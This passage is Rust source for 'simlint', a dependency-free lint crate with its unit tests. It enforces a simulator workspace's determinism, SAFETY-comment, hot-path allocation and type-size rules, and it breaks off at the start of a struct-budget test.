//! used to be enforced only by runtime tests and reviewer vigilance; this
//! crate makes them machine-checked. It is a dependency-free static pass
//! (hand-rolled lexer, no `syn` — there is no registry access here) in
//! the spirit of clippy's `disallowed-methods` and netstack3's in-tree
//! lints: [`rules`] documents the rule table, [`config`] the embedded
//! scope/allowlist tables, and the `simlint` binary drives it over the
//! workspace with rustc-style `file:line:col` diagnostics and a nonzero
//! exit on any finding.

#![warn(missing_docs)]

pub mod config;
pub mod diag;
pub mod lexer;
pub mod rules;

use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use diag::Diagnostic;

/// Recursively collects `.rs` files under `dir`, skipping
/// [`config::SKIP_DIRS`] and hidden directories. Results are sorted so
/// diagnostics order never depends on directory-entry order.
fn collect_rs_files(dir: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    let mut entries: Vec<PathBuf> =
        fs::read_dir(dir)?.map(|e| e.map(|e| e.path())).collect::<io::Result<_>>()?;
    entries.sort();
    for path in entries {
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
        if path.is_dir() {
            if name.starts_with('.') || config::SKIP_DIRS.contains(&name) {
                continue;
            }
            collect_rs_files(&path, out)?;
        } else if name.ends_with(".rs") {
            out.push(path);
        }
    }
    Ok(())
}

/// Root-relative `/`-separated path label for `path` under `root`.
fn rel_label(root: &Path, path: &Path) -> String {
    let rel = path.strip_prefix(root).unwrap_or(path);
    rel.components().map(|c| c.as_os_str().to_string_lossy()).collect::<Vec<_>>().join("/")
}

/// Lints every source tree in [`config::WALK_ROOTS`] under `root`,
/// returning all findings sorted by position. Errors only on I/O
/// failures; lint findings are data, not errors.
pub fn lint_workspace(root: &Path) -> io::Result<Vec<Diagnostic>> {
    let mut files = Vec::new();
    for tree in config::WALK_ROOTS {
        let dir = root.join(tree);
        if dir.is_dir() {
            collect_rs_files(&dir, &mut files)?;
        }
    }
    let mut lexed_files = Vec::with_capacity(files.len());
    for path in &files {
        let source = fs::read_to_string(path)?;
        lexed_files.push((rel_label(root, path), lexer::lex(&source)));
    }
    let mut diags = Vec::new();
    for (label, lexed) in &lexed_files {
        diags.extend(rules::lint_lexed(label, lexed));
    }
    diags.extend(rules::check_enum_sizes(&lexed_files));
    diags.extend(rules::check_struct_budgets(&lexed_files));
    diags.sort_by_key(Diagnostic::sort_key);
    Ok(diags)
}

/// Lints an explicit list of files (paths used verbatim as labels) —
/// the mode the CI negative smoke uses on the violation fixture.
/// Crate-level rules (enum-size) only apply to crates whose sources are
/// all present, so single-file mode runs the per-file rules.
pub fn lint_files(paths: &[PathBuf]) -> io::Result<Vec<Diagnostic>> {
    let mut diags = Vec::new();
    for path in paths {
        let source = fs::read_to_string(path)?;
        let label = rel_label(Path::new(""), path);
        diags.extend(rules::lint_source(&label, &source));
    }
    diags.sort_by_key(Diagnostic::sort_key);
    Ok(diags)
}

/// Walks upward from `start` to the directory whose `Cargo.toml`
/// declares `[workspace]`.
pub fn find_workspace_root(start: &Path) -> Option<PathBuf> {
    let mut dir = start.to_path_buf();
    loop {
        let manifest = dir.join("Cargo.toml");
        if manifest.is_file() {
            if let Ok(text) = fs::read_to_string(&manifest) {
                if text.contains("[workspace]") {
                    return Some(dir);
                }
            }
        }
        if !dir.pop() {
            return None;
        }
    }
}
