//! The invariant rules, evaluated over the token/comment stream.
//!
//! | id            | invariant                                                      |
//! |---------------|----------------------------------------------------------------|
//! | `safety`      | every `unsafe` is preceded by a SAFETY comment / doc section   |
//! | `std-hash`    | no `HashMap`/`HashSet` in non-test library code                |
//! | `wall-clock`  | no `Instant::now`/`SystemTime::now` outside the bench allowlist|
//! | `ambient-rng` | no `thread_rng`/`from_entropy`/`rand::random`, anywhere        |
//! | `hot-alloc`   | no allocation idioms in files marked hot-path                  |
//! | `enum-size`   | every hot-list enum has a compile-time `size_of` assertion     |
//! | `console`     | no raw print macros in library code — use `obs::console!`      |
//! | `allow-syntax`| every suppression names a real rule and gives a reason         |
//!
//! Suppression is per-line and must carry a justification, e.g.
//! `hot-alloc` can be waived on a cold constructor line with a trailing
//! comment of the shape `simlint: allow(<rule>) — <why this is sound>`
//! (written with `//`). A file opts into the allocation rules with a
//! file-scope marker comment of the shape `simlint: hot-path`.

use crate::config;
use crate::diag::Diagnostic;
use crate::lexer::{lex, Comment, Lexed, Tok};

/// A parsed suppression: findings for `rule` on `from_line..=to_line`
/// are dropped.
#[derive(Debug)]
struct Allow {
    rule: String,
    from_line: u32,
    to_line: u32,
}

/// What a comment's directive (if any) means.
enum Directive {
    HotPath,
    Allow { rule: String, reason: String },
    Malformed(String),
}

/// Parses a simlint directive out of a comment. Only comments that
/// *begin* with the directive count, so prose that merely mentions the
/// syntax (docs, this file) is inert.
fn parse_directive(c: &Comment) -> Option<Directive> {
    let t = c.text.trim().trim_start_matches('`').trim_start();
    let rest = t.strip_prefix("simlint:")?.trim_start();
    if rest.starts_with("hot-path") {
        return Some(Directive::HotPath);
    }
    if let Some(body) = rest.strip_prefix("allow(") {
        let Some(close) = body.find(')') else {
            return Some(Directive::Malformed("unclosed `allow(`".into()));
        };
        let rule = body[..close].trim().to_string();
        let reason = body[close + 1..]
            .trim_start_matches([' ', '\t', '—', '–', '-', ':'])
            .trim()
            .to_string();
        return Some(Directive::Allow { rule, reason });
    }
    None
}

/// `#[cfg(test)]` item extents, as inclusive line ranges. Files living
/// under `tests/`/`benches/` are handled by path instead.
fn test_regions(lexed: &Lexed) -> Vec<(u32, u32)> {
    let toks = &lexed.toks;
    let mut regions = Vec::new();
    let mut i = 0usize;
    while i < toks.len() {
        if !toks[i].is_punct('#') {
            i += 1;
            continue;
        }
        let attr_line = toks[i].span.line;
        let mut j = i + 1;
        let inner = j < toks.len() && toks[j].is_punct('!');
        if inner {
            j += 1;
        }
        if j >= toks.len() || !toks[j].is_punct('[') {
            i += 1;
            continue;
        }
        // Scan the attribute body to the matching `]`.
        let mut depth = 0i32;
        let mut saw_cfg = false;
        let mut saw_test = false;
        while j < toks.len() {
            match &toks[j].kind {
                crate::lexer::TokKind::Punct('[') => depth += 1,
                crate::lexer::TokKind::Punct(']') => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                crate::lexer::TokKind::Ident(id) => {
                    saw_cfg |= id == "cfg";
                    saw_test |= id == "test";
                }
                _ => {}
            }
            j += 1;
        }
        if !(saw_cfg && saw_test) {
            i = j + 1;
            continue;
        }
        if inner {
            // `#![cfg(test)]`: the whole file is test code.
            regions.push((1, u32::MAX));
            return regions;
        }
        // Find the annotated item's extent: the first brace block, or a
        // terminating `;` for braceless items (`use`, type aliases).
        let mut k = j + 1;
        let mut end_line = attr_line;
        while k < toks.len() {
            if toks[k].is_punct('{') {
                let mut braces = 0i32;
                while k < toks.len() {
                    if toks[k].is_punct('{') {
                        braces += 1;
                    } else if toks[k].is_punct('}') {
                        braces -= 1;
                        if braces == 0 {
                            break;
                        }
                    }
                    k += 1;
                }
                end_line = toks[k.min(toks.len() - 1)].span.line;
                break;
            }
            if toks[k].is_punct(';') {
                end_line = toks[k].span.line;
                break;
            }
            k += 1;
        }
        regions.push((attr_line, end_line.max(attr_line)));
        i = j + 1;
    }
    regions
}

fn in_regions(regions: &[(u32, u32)], line: u32) -> bool {
    regions.iter().any(|&(a, b)| a <= line && line <= b)
}

/// True when a SAFETY marker comment covers `line` or sits in the
/// contiguous comment/blank/attribute block directly above it.
fn safety_comment_near(lexed: &Lexed, line: u32) -> bool {
    let has_marker = |c: &Comment| c.text.contains("SAFETY:") || c.text.contains("# Safety");
    if lexed.comment_at(line).is_some_and(&has_marker) {
        return true;
    }
    let mut l = line.saturating_sub(1);
    while l >= 1 {
        if let Some(c) = lexed.comment_at(l) {
            if has_marker(c) {
                return true;
            }
            l = c.start_line.saturating_sub(1);
            continue;
        }
        if lexed.line_has_code(l) {
            // Attribute lines (`#[inline]`) may sit between the comment
            // and the unsafe item; anything else ends the search.
            let first_on_line =
                lexed.toks.iter().find(|t| t.span.line == l).expect("line has code");
            if first_on_line.is_punct('#') {
                l -= 1;
                continue;
            }
            return false;
        }
        l -= 1; // blank line
    }
    false
}

/// Matches `base :: name` starting at `toks[i]` (where `toks[i]` is the
/// `base` identifier).
fn qualified(toks: &[Tok], i: usize, base: &str, name: &str) -> bool {
    toks[i].ident() == Some(base)
        && toks.get(i + 1).is_some_and(|t| t.is_punct(':'))
        && toks.get(i + 2).is_some_and(|t| t.is_punct(':'))
        && toks.get(i + 3).and_then(Tok::ident) == Some(name)
}

/// Matches `. name (` starting at the `.` in `toks[i]`.
fn method_call(toks: &[Tok], i: usize, name: &str) -> bool {
    toks[i].is_punct('.')
        && toks.get(i + 1).and_then(Tok::ident) == Some(name)
        && toks.get(i + 2).is_some_and(|t| t.is_punct('('))
}

/// Lints one file's source. `path` must be workspace-root-relative with
/// `/` separators — the rules use it for the test/bench/allowlist scopes.
pub fn lint_source(path: &str, source: &str) -> Vec<Diagnostic> {
    lint_lexed(path, &lex(source))
}

/// Lints one file that has already been lexed.
pub fn lint_lexed(path: &str, lexed: &Lexed) -> Vec<Diagnostic> {
    let mut diags = Vec::new();
    let mut allows: Vec<Allow> = Vec::new();
    let mut hot = false;

    for (ci, c) in lexed.comments.iter().enumerate() {
        match parse_directive(c) {
            Some(Directive::HotPath) => hot = true,
            Some(Directive::Allow { rule, reason }) => {
                if !config::RULES.contains(&rule.as_str()) {
                    diags.push(Diagnostic {
                        path: path.into(),
                        line: c.start_line,
                        col: 1,
                        rule: "allow-syntax",
                        message: format!(
                            "allow names unknown rule `{rule}` (known: {})",
                            config::RULES.join(", ")
                        ),
                    });
                } else if reason.is_empty() {
                    diags.push(Diagnostic {
                        path: path.into(),
                        line: c.start_line,
                        col: 1,
                        rule: "allow-syntax",
                        message: format!(
                            "allow({rule}) without a reason — every exception must \
                             justify itself in the diff"
                        ),
                    });
                } else {
                    // A justification may wrap onto following comment
                    // lines; the allow covers the whole contiguous
                    // comment block plus the line after it.
                    let mut end = c.end_line;
                    for next in &lexed.comments[ci + 1..] {
                        if next.start_line == end + 1 && parse_directive(next).is_none() {
                            end = next.end_line;
                        } else {
                            break;
                        }
                    }
                    allows.push(Allow { rule, from_line: c.start_line, to_line: end + 1 });
                }
            }
            Some(Directive::Malformed(why)) => diags.push(Diagnostic {
                path: path.into(),
                line: c.start_line,
                col: 1,
                rule: "allow-syntax",
                message: why,
            }),
            None => {}
        }
    }

    let test_file = config::is_test_path(path);
    let regions = test_regions(lexed);
    let in_test = |line: u32| test_file || in_regions(&regions, line);
    let toks = &lexed.toks;

    let mut push = |line: u32, col: u32, rule: &'static str, message: String| {
        diags.push(Diagnostic { path: path.into(), line, col, rule, message });
    };

    for (i, t) in toks.iter().enumerate() {
        let (line, col) = (t.span.line, t.span.col);
        match t.ident() {
            // R1 — SAFETY comments. Applies everywhere, tests included:
            // an unjustified `unsafe` in a test is still unjustified.
            Some("unsafe") if !safety_comment_near(lexed, line) => {
                push(
                    line,
                    col,
                    "safety",
                    "`unsafe` without a preceding `// SAFETY:` comment (or \
                     `/// # Safety` doc section) stating the invariant relied on"
                        .into(),
                );
            }
            // R2 — SipHash's random state makes iteration order differ
            // run to run; results must be a pure function of
            // (scale, seed, index).
            Some(name @ ("HashMap" | "HashSet")) if !in_test(line) => {
                let fast = if name == "HashMap" { "FastMap" } else { "FastSet" };
                push(
                    line,
                    col,
                    "std-hash",
                    format!(
                        "`{name}` in library code: SipHash's random state is a \
                         determinism hazard — use `netsim::fasthash::{fast}`"
                    ),
                );
            }
            // R3 — simulated time comes from the simulator.
            Some("Instant" | "SystemTime")
                if qualified(toks, i, t.ident().unwrap_or_default(), "now")
                    && !config::wall_clock_allowed(path) =>
            {
                push(
                    line,
                    col,
                    "wall-clock",
                    format!(
                        "`{}::now` outside the bench allowlist: simulated time must \
                         come from the simulator, not the host clock",
                        t.ident().unwrap_or_default()
                    ),
                );
            }
            // R4 — all randomness derives from (scale, master_seed, index).
            Some(name @ ("thread_rng" | "from_entropy")) => {
                push(
                    line,
                    col,
                    "ambient-rng",
                    format!(
                        "`{name}` is ambient randomness — derive every seed from \
                         (scale, master_seed, index) via SmallRng::seed_from_u64"
                    ),
                );
            }
            Some("rand") if qualified(toks, i, "rand", "random") => {
                push(
                    line,
                    col,
                    "ambient-rng",
                    "`rand::random` is ambient randomness — derive every seed from \
                     (scale, master_seed, index) via SmallRng::seed_from_u64"
                        .into(),
                );
            }
            // R7 — library code must not write to the console directly:
            // diagnostics go through `obs::console!`, the one suppressible
            // funnel, so traces and artifacts never interleave with stray
            // prints (and a worker's NDJSON stdout stays machine-clean).
            Some(name @ ("println" | "print" | "eprintln" | "eprint"))
                if toks.get(i + 1).is_some_and(|n| n.is_punct('!'))
                    && !in_test(line)
                    && !config::console_allowed(path) =>
            {
                push(
                    line,
                    col,
                    "console",
                    format!(
                        "`{name}!` in library code: route diagnostics through \
                         `obs::console!` (binaries, examples, and crates/bench \
                         are exempt)"
                    ),
                );
            }
            _ => {}
        }

        // R5 — allocation idioms in hot-path files (steady state must not
        // touch the heap; cold/setup lines take a justified allow).
        if hot && !in_test(line) {
            let hit: Option<&str> = if method_call(toks, i, "clone") {
                Some(".clone()")
            } else if method_call(toks, i, "to_vec") {
                Some(".to_vec()")
            } else if qualified(toks, i, "Vec", "new") {
                Some("Vec::new")
            } else if qualified(toks, i, "Box", "new") {
                Some("Box::new")
            } else if qualified(toks, i, "String", "from") {
                Some("String::from")
            } else if t.ident() == Some("vec") && toks.get(i + 1).is_some_and(|n| n.is_punct('!')) {
                Some("vec![…]")
            } else if t.ident() == Some("format")
                && toks.get(i + 1).is_some_and(|n| n.is_punct('!'))
            {
                Some("format!")
            } else {
                None
            };
            if let Some(idiom) = hit {
                let (line, col) = if idiom.starts_with('.') {
                    (toks[i + 1].span.line, toks[i + 1].span.col)
                } else {
                    (line, col)
                };
                push(
                    line,
                    col,
                    "hot-alloc",
                    format!(
                        "`{idiom}` in a hot-path module: the packet path holds a \
                         zero-heap-allocation steady state — use pooled buffers / \
                         caller-supplied scratch, or justify with an allow"
                    ),
                );
            }
        }
    }

    // Apply suppressions. `allow-syntax` findings are never suppressible:
    // a broken allow must not hide itself.
    diags.retain(|d| {
        d.rule == "allow-syntax"
            || !allows
                .iter()
                .any(|a| a.rule == d.rule && a.from_line <= d.line && d.line <= a.to_line)
    });
    diags
}

/// R6 — every hot-list enum must carry a compile-time size assertion in
/// its crate, so "shrink the hot structs" refactors get a permanent gate.
/// `files` holds every walked (path, lexed) pair.
pub fn check_enum_sizes(files: &[(String, Lexed)]) -> Vec<Diagnostic> {
    let mut diags = Vec::new();
    for &(crate_dir, enums) in config::HOT_ENUMS {
        let in_crate: Vec<&(String, Lexed)> =
            files.iter().filter(|(p, _)| p.starts_with(&format!("{crate_dir}/"))).collect();
        if in_crate.is_empty() {
            continue; // crate not part of this lint invocation (e.g. single-file mode)
        }
        for &name in enums {
            let mut def: Option<(String, u32, u32)> = None;
            let mut asserted = false;
            for (path, lexed) in &in_crate {
                let toks = &lexed.toks;
                for (i, t) in toks.iter().enumerate() {
                    if t.ident() == Some("enum")
                        && toks.get(i + 1).and_then(Tok::ident) == Some(name)
                    {
                        let s = toks[i + 1].span;
                        def.get_or_insert((path.clone(), s.line, s.col));
                    }
                    // `… const _ … size_of::<Name>` — a compile-time
                    // assertion mentions the enum within a const item.
                    if t.ident() == Some("size_of")
                        && toks.get(i + 1).is_some_and(|t| t.is_punct(':'))
                        && toks.get(i + 2).is_some_and(|t| t.is_punct(':'))
                        && toks.get(i + 3).is_some_and(|t| t.is_punct('<'))
                        && toks.get(i + 4).and_then(Tok::ident) == Some(name)
                    {
                        let window = &toks[i.saturating_sub(40)..i];
                        if window.iter().any(|t| t.ident() == Some("const")) {
                            asserted = true;
                        }
                    }
                }
            }
            match def {
                None => diags.push(Diagnostic {
                    path: crate_dir.into(),
                    line: 0,
                    col: 0,
                    rule: "enum-size",
                    message: format!(
                        "hot-list enum `{name}` is not defined in this crate — \
                         update simlint's HOT_ENUMS table"
                    ),
                }),
                Some((path, line, col)) if !asserted => diags.push(Diagnostic {
                    path,
                    line,
                    col,
                    rule: "enum-size",
                    message: format!(
                        "enum `{name}` is on the hot list but its crate has no \
                         compile-time size assertion — add \
                         `const _: () = assert!(std::mem::size_of::<{name}>() <= N);`"
                    ),
                }),
                Some(_) => {}
            }
        }
    }
    diags
}

/// R6 (structs) — every hot-list struct must carry a compile-time size
/// assertion whose bound stays within the byte budget in
/// [`config::HOT_STRUCTS`]. An assertion with a *looser* bound than the
/// budget is as much a violation as a missing one: the budget table is
/// the single place the cache-shape contract can be renegotiated.
pub fn check_struct_budgets(files: &[(String, Lexed)]) -> Vec<Diagnostic> {
    let mut diags = Vec::new();
    for &(crate_dir, structs) in config::HOT_STRUCTS {
        let in_crate: Vec<&(String, Lexed)> =
            files.iter().filter(|(p, _)| p.starts_with(&format!("{crate_dir}/"))).collect();
        if in_crate.is_empty() {
            continue; // crate not part of this lint invocation
        }
        for &(name, budget) in structs {
            let mut def: Option<(String, u32, u32)> = None;
            // The tightest asserted bound found anywhere in the crate.
            let mut asserted_bound: Option<u64> = None;
            for (path, lexed) in &in_crate {
                let toks = &lexed.toks;
                for (i, t) in toks.iter().enumerate() {
                    if t.ident() == Some("struct")
                        && toks.get(i + 1).and_then(Tok::ident) == Some(name)
                    {
                        let s = toks[i + 1].span;
                        def.get_or_insert((path.clone(), s.line, s.col));
                    }
                    // `… const _ … size_of::<Name>() <= N` — capture N.
                    if t.ident() == Some("size_of")
                        && toks.get(i + 1).is_some_and(|t| t.is_punct(':'))
                        && toks.get(i + 2).is_some_and(|t| t.is_punct(':'))
                        && toks.get(i + 3).is_some_and(|t| t.is_punct('<'))
                        && toks.get(i + 4).and_then(Tok::ident) == Some(name)
                        && toks.get(i + 5).is_some_and(|t| t.is_punct('>'))
                        && toks.get(i + 6).is_some_and(|t| t.is_punct('('))
                        && toks.get(i + 7).is_some_and(|t| t.is_punct(')'))
                        && toks.get(i + 8).is_some_and(|t| t.is_punct('<'))
                        && toks.get(i + 9).is_some_and(|t| t.is_punct('='))
                    {
                        let window = &toks[i.saturating_sub(40)..i];
                        if window.iter().any(|t| t.ident() == Some("const")) {
                            if let Some(n) = toks.get(i + 10).and_then(Tok::number) {
                                asserted_bound = Some(asserted_bound.map_or(n, |prev| prev.min(n)));
                            }
                        }
                    }
                }
            }
            match (def, asserted_bound) {
                (None, _) => diags.push(Diagnostic {
                    path: crate_dir.into(),
                    line: 0,
                    col: 0,
                    rule: "enum-size",
                    message: format!(
                        "hot-list struct `{name}` is not defined in this crate — \
                         update simlint's HOT_STRUCTS table"
                    ),
                }),
                (Some((path, line, col)), None) => diags.push(Diagnostic {
                    path,
                    line,
                    col,
                    rule: "enum-size",
                    message: format!(
                        "struct `{name}` is on the hot list (budget {budget} bytes) but its \
                         crate has no compile-time size assertion — add \
                         `const _: () = assert!(std::mem::size_of::<{name}>() <= {budget});`"
                    ),
                }),
                (Some((path, line, col)), Some(bound)) if bound > budget => {
                    diags.push(Diagnostic {
                        path,
                        line,
                        col,
                        rule: "enum-size",
                        message: format!(
                            "struct `{name}` asserts `size_of <= {bound}` but the hot-list \
                             budget is {budget} bytes — tighten the assertion or renegotiate \
                             the budget in simlint's HOT_STRUCTS table"
                        ),
                    });
                }
                (Some(_), Some(_)) => {}
            }
        }
    }
    diags
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIB: &str = "crates/demo/src/lib.rs";

    fn rules_at(src: &str) -> Vec<(&'static str, u32)> {
        lint_source(LIB, src).into_iter().map(|d| (d.rule, d.line)).collect()
    }

    // ---- R1: safety ----

    #[test]
    fn unsafe_without_safety_comment_fires_at_the_right_line() {
        let src = "fn f() {\n    let x = unsafe { danger() };\n}\n";
        assert_eq!(rules_at(src), vec![("safety", 2)]);
    }

    #[test]
    fn safety_comment_block_directly_above_passes() {
        let src = "fn f() {\n    // SAFETY: the pointer is valid because\n    \
                   // the arena outlives this call.\n    let x = unsafe { danger() };\n}\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn safety_doc_section_on_unsafe_fn_passes() {
        let src = "/// Frees the thing.\n///\n/// # Safety\n///\n/// `p` must be \
                   valid.\npub unsafe fn free(p: *mut u8) {}\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn attribute_between_safety_comment_and_unsafe_is_fine() {
        let src = "// SAFETY: checked above.\n#[inline]\nunsafe fn g() {}\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn unrelated_comment_above_unsafe_still_fires() {
        let src = "// Frees the thing quickly.\nunsafe fn g() {}\n";
        assert_eq!(rules_at(src), vec![("safety", 2)]);
    }

    #[test]
    fn code_between_safety_comment_and_unsafe_breaks_the_link() {
        let src = "// SAFETY: stale justification.\nlet a = 1;\nlet x = unsafe { d() };\n";
        assert_eq!(rules_at(src), vec![("safety", 3)]);
    }

    // ---- R2: std-hash ----

    #[test]
    fn hashmap_in_library_code_fires() {
        let src = "use std::collections::HashMap;\nstruct S { m: HashMap<u32, u32> }\n";
        assert_eq!(rules_at(src), vec![("std-hash", 1), ("std-hash", 2)]);
    }

    #[test]
    fn hashset_in_cfg_test_module_is_exempt() {
        let src = "pub fn lib() {}\n#[cfg(test)]\nmod tests {\n    use \
                   std::collections::HashSet;\n    #[test]\n    fn t() { let _ = \
                   HashSet::<u32>::new(); }\n}\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn hashmap_in_tests_dir_is_exempt() {
        let src = "use std::collections::HashMap;\n";
        assert_eq!(lint_source("crates/demo/tests/it.rs", src), vec![]);
        assert_eq!(lint_source("tests/determinism.rs", src), vec![]);
    }

    #[test]
    fn hashmap_in_string_or_comment_never_fires() {
        let src = "// HashMap is banned here\nlet s = \"HashMap\";\nlet r = \
                   r#\"HashSet \"inner\" \"#;\n";
        assert_eq!(rules_at(src), vec![]);
    }

    // ---- R3: wall-clock ----

    #[test]
    fn instant_now_fires_outside_the_allowlist() {
        let src = "let t = std::time::Instant::now();\n";
        assert_eq!(rules_at(src), vec![("wall-clock", 1)]);
        let src2 = "let t = SystemTime::now();\n";
        assert_eq!(rules_at(src2), vec![("wall-clock", 1)]);
    }

    #[test]
    fn bench_crate_may_read_the_wall_clock() {
        let src = "let t = Instant::now();\n";
        assert_eq!(lint_source("crates/bench/src/lib.rs", src), vec![]);
    }

    #[test]
    fn instant_elapsed_alone_does_not_fire() {
        // Only the `::now` constructors are wall-clock reads.
        let src = "fn f(t: std::time::Instant) -> u64 { t.elapsed().as_nanos() as u64 }\n";
        assert_eq!(rules_at(src), vec![]);
    }

    // ---- R4: ambient-rng ----

    #[test]
    fn ambient_randomness_fires_even_in_tests() {
        let src = "let mut rng = thread_rng();\n";
        assert_eq!(rules_at(src), vec![("ambient-rng", 1)]);
        for (path, src) in [
            ("crates/demo/tests/it.rs", "let r = rand::random::<u8>();\n"),
            ("tests/it.rs", "let g = SmallRng::from_entropy();\n"),
        ] {
            let rules: Vec<&str> = lint_source(path, src).iter().map(|d| d.rule).collect();
            assert_eq!(rules, vec!["ambient-rng"], "must fire in test file {path}");
        }
    }

    // ---- R5: hot-alloc ----

    #[test]
    fn hot_path_marker_arms_the_allocation_rules() {
        let src = "// simlint: hot-path\nfn f(v: &[u8]) -> Vec<u8> { v.to_vec() }\n";
        assert_eq!(rules_at(src), vec![("hot-alloc", 2)]);
        // Without the marker the same file is silent.
        let unmarked = "fn f(v: &[u8]) -> Vec<u8> { v.to_vec() }\n";
        assert_eq!(rules_at(unmarked), vec![]);
    }

    #[test]
    fn each_hot_alloc_idiom_fires() {
        for stmt in [
            "x.clone()",
            "Vec::new()",
            "vec![0u8; 16]",
            "x.to_vec()",
            "Box::new(x)",
            "format!(\"{x}\")",
            "String::from(\"x\")",
        ] {
            let src = format!("// simlint: hot-path\nfn f() {{ let _ = {stmt}; }}\n");
            let diags = lint_source(LIB, &src);
            assert_eq!(
                diags.iter().map(|d| (d.rule, d.line)).collect::<Vec<_>>(),
                vec![("hot-alloc", 2)],
                "idiom {stmt} must fire exactly once"
            );
        }
    }

    #[test]
    fn hot_alloc_skips_cfg_test_modules() {
        let src = "// simlint: hot-path\npub fn lib() {}\n#[cfg(test)]\nmod tests {\n    \
                   fn t() { let v = vec![1, 2]; let _ = v.clone(); }\n}\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn clone_in_doc_example_does_not_fire() {
        let src = "// simlint: hot-path\n/// ```\n/// let b = a.clone();\n/// ```\nfn f() {}\n";
        assert_eq!(rules_at(src), vec![]);
    }

    // ---- R7: console ----

    #[test]
    fn raw_print_macros_fire_in_library_code() {
        for stmt in ["println!(\"x\")", "print!(\"x\")", "eprintln!(\"x\")", "eprint!(\"x\")"] {
            let src = format!("fn f() {{ {stmt}; }}\n");
            let diags = lint_source(LIB, &src);
            assert_eq!(
                diags.iter().map(|d| (d.rule, d.line)).collect::<Vec<_>>(),
                vec![("console", 1)],
                "{stmt} must fire exactly once"
            );
            assert!(diags[0].message.contains("obs::console!"), "{}", diags[0].message);
        }
    }

    #[test]
    fn console_macro_and_non_macro_idents_do_not_fire() {
        // The sanctioned funnel itself, and `println` as a plain ident.
        let src = "fn f() { obs::console!(\"status: {}\", 1); let println = 3; }\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn console_rule_exempts_binaries_tests_and_the_allowlist() {
        let src = "fn f() { println!(\"x\"); }\n";
        for path in [
            "crates/campaign/src/main.rs",
            "crates/bench/src/bin/perfgate.rs",
            "crates/bench/src/lib.rs",
            "crates/obs/src/lib.rs",
            "crates/demo/tests/it.rs",
            "examples/demo.rs",
        ] {
            assert_eq!(lint_source(path, src), vec![], "{path} must be exempt");
        }
        let in_test_mod = "pub fn lib() {}\n#[cfg(test)]\nmod tests {\n    fn t() { \
                           println!(\"dbg\"); }\n}\n";
        assert_eq!(rules_at(in_test_mod), vec![]);
    }

    #[test]
    fn console_finding_is_suppressible_with_a_reason() {
        let src = "fn f() { println!(\"x\"); } \
                   // simlint: allow(console) — one-shot migration notice, reviewed\n";
        assert_eq!(rules_at(src), vec![]);
    }

    // ---- allows ----

    #[test]
    fn trailing_allow_with_reason_suppresses() {
        let src = "// simlint: hot-path\nfn f() { let v: Vec<u8> = Vec::new(); } \
                   // simlint: allow(hot-alloc) — cold constructor, never on the packet path\n";
        assert_eq!(rules_at(src), vec![]);
    }

    #[test]
    fn preceding_line_allow_suppresses_next_line_only() {
        let src = "// simlint: hot-path\n\
                   // simlint: allow(hot-alloc) — setup, runs once\n\
                   fn f() { let v: Vec<u8> = Vec::new(); }\n\
                   fn g() { let w: Vec<u8> = Vec::new(); }\n";
        assert_eq!(rules_at(src), vec![("hot-alloc", 4)]);
    }

    #[test]
    fn allow_without_reason_is_an_error_and_does_not_suppress() {
        let src = "// simlint: hot-path\nfn f() { let v: Vec<u8> = Vec::new(); } \
                   // simlint: allow(hot-alloc)\n";
        let mut rules: Vec<&str> = lint_source(LIB, src).iter().map(|d| d.rule).collect();
        rules.sort_unstable();
        assert_eq!(rules, vec!["allow-syntax", "hot-alloc"]);
    }

    #[test]
    fn allow_naming_unknown_rule_is_an_error() {
        let src = "fn f() {} // simlint: allow(hto-alloc) — typo\n";
        let diags = lint_source(LIB, src);
        assert_eq!(diags.len(), 1);
        assert_eq!(diags[0].rule, "allow-syntax");
        assert!(diags[0].message.contains("hto-alloc"));
    }

    #[test]
    fn allow_only_covers_its_own_rule() {
        let src = "fn f() { let t = Instant::now(); } \
                   // simlint: allow(ambient-rng) — wrong rule named\n";
        assert_eq!(rules_at(src), vec![("wall-clock", 1)]);
    }

    #[test]
    fn prose_mentioning_the_syntax_is_inert() {
        let src = "// Suppress with a comment like `simlint: allow(rule)` plus a reason.\n\
                   fn f() {}\n";
        // Mid-comment mentions parse as prose, not directives — but even a
        // comment *starting* with the directive still validates the rule
        // name, which is what the previous test pins.
        assert_eq!(rules_at(src), vec![]);
    }

    // ---- R6: enum-size ----

    fn lexed_files(files: &[(&str, &str)]) -> Vec<(String, Lexed)> {
        files.iter().map(|(p, s)| (p.to_string(), lex(s))).collect()
    }

    #[test]
    fn hot_enum_without_assertion_fires_at_its_definition() {
        let files = lexed_files(&[(
            "crates/netsim/src/sim.rs",
            "pub enum Action { A }\npub enum EventKind { B }\n\
             const _: () = assert!(std::mem::size_of::<EventKind>() <= 32);\n",
        )]);
        let diags = check_enum_sizes(&files);
        assert_eq!(diags.len(), 1);
        assert_eq!((diags[0].rule, diags[0].line), ("enum-size", 1));
        assert!(diags[0].message.contains("`Action`"));
    }

    #[test]
    fn asserted_hot_enums_pass_and_stale_config_is_reported() {
        let files = lexed_files(&[(
            "crates/netsim/src/sim.rs",
            "pub enum Action { A }\npub enum EventKind { B }\n\
             const _: () = assert!(std::mem::size_of::<Action>() <= 32);\n\
             const _: () = assert!(std::mem::size_of::<EventKind>() <= 32);\n",
        )]);
        assert_eq!(check_enum_sizes(&files), vec![]);

        // A crate that no longer defines a listed enum is a config bug.
        let files = lexed_files(&[("crates/netsim/src/sim.rs", "pub enum Action { A }")]);
        let diags = check_enum_sizes(&files);
        assert!(diags.iter().any(|d| d.rule == "enum-size" && d.message.contains("EventKind")));
    }

    #[test]
    fn size_of_outside_a_const_item_is_not_an_assertion() {
        let files = lexed_files(&[(
            "crates/netsim/src/sim.rs",
            "pub enum Action { A }\npub enum EventKind { B }\n\
             fn report() -> (usize, usize) {\n    \
             (std::mem::size_of::<Action>(), std::mem::size_of::<EventKind>())\n}\n",
        )]);
        assert_eq!(check_enum_sizes(&files).len(), 2);
    }

    // ---- R6: struct byte budgets ----

    #[test]
